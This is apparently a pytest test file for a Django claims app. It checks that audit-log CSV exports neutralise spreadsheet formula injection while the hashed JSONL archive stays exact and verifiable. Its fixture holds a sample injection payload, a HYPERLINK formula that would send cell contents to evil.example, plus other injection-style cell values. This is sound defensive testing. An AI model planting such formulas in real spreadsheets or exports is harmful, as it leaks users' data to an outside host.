"""The audit CSVs are for people, who open them in spreadsheets: a cell a spreadsheet would run as a
formula is neutralised there, as in the claims CSV. The JSONL archive stays exact (it is hashed)."""

import csv
import io
import json

import pytest
from django.core.management import call_command
from django.db import transaction
from django.urls import reverse

from claims import audit
from claims.models import AuditEvent

pytestmark = pytest.mark.django_db

NASTY = {
    "note": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "request_id": "-1-1",
    "actor_note": "@x",
}


@pytest.fixture
def events():
    with audit.cause("web", request_id=NASTY["request_id"]), transaction.atomic():
        audit.record(AuditEvent.Action.VERDICT_SET, actor=None, note=NASTY["note"])
        audit.record(AuditEvent.Action.VERDICT_REOPENED, actor=None, note=NASTY["actor_note"])
        audit.record(AuditEvent.Action.ARTICLE_EDITED, actor=None, note="+31 6 1234")


def _check(rows):
    header, first, second, third = rows
    note, request_id = header.index("note"), header.index("request_id")
    assert first[note] == "'" + NASTY["note"]
    assert first[request_id] == "'-1-1"
    assert second[note] == "'@x"
    assert third[note] == "'+31 6 1234"
    # Nothing else in a row starts as a formula.
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_audit_log_csv_neutralises_formulas(client, reviewer, events):
    client.force_login(reviewer)
    response = client.get(reverse("claims:audit_export"))
    body = b"".join(response.streaming_content).decode()
    _check(list(csv.reader(io.StringIO(body))))


def test_export_audit_csv_neutralises_formulas(events, capsys):
    call_command("export_audit", "--format", "csv")
    _check(list(csv.reader(io.StringIO(capsys.readouterr().out))))


def test_the_jsonl_archive_stays_exact_and_verifiable(events, tmp_path, capsys):
    path = tmp_path / "trail.jsonl"
    call_command("export_audit", "-o", str(path))
    records = [json.loads(line) for line in path.read_text().splitlines()]
    assert [r["note"] for r in records] == [NASTY["note"], "@x", "+31 6 1234"]
    assert records[0]["request_id"] == "-1-1"
    call_command("verify_audit", "--file", str(path))
    assert "intact: 3 events verified" in capsys.readouterr().out
